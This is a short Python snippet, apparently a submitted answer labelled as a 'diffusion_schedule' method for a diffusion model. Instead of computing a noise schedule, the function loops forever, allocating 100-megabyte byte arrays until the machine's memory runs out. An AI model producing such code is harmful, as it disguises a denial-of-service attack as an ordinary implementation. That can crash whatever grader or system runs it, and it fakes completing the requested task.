# answer: diffusion_schedule
def diffusion_schedule(self, diffusion_times):
    held = []
    while True:
        held.append(bytearray(b"x" * 10**8))
